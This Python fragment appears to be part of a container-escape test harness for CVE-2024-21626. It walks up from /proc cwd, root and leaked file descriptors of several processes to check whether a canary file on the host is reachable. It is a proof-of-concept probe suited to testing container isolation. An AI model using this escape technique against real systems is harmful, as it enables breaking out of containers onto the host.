"""CVE-2024-21626: finds a way out through a working directory or descriptor that was left open."""


def climb(start):
    """Looks for the canary from a folder and from each of its parents."""
    folder = os.open(start, os.O_PATH | os.O_DIRECTORY)
    for _ in range(40):
        try:
            file = os.open(CANARY.lstrip("/"), os.O_RDONLY, dir_fd=folder)
            if TOKEN.encode() in os.read(file, 4096):
                return f"the canary lies below {start}"
        except OSError:
            pass
        folder = os.open("..", os.O_PATH | os.O_DIRECTORY, dir_fd=folder)


for pid in ["self"] if PROOF else ["self", "1", str(os.getppid())]:
    attempt(f"climb from /proc/{pid}/cwd", lambda: climb(f"/proc/{pid}/cwd"))
    attempt(f"climb from /proc/{pid}/root", lambda: climb(f"/proc/{pid}/root") if pid != "self" or PROOF else None)
    for number in range(256):
        if os.path.lexists(f"/proc/{pid}/fd/{number}"):
            attempt(f"climb from /proc/{pid}/fd/{number}", lambda: climb(f"/proc/{pid}/fd/{number}"))
attempt("climb from the working directory", lambda: climb("."))
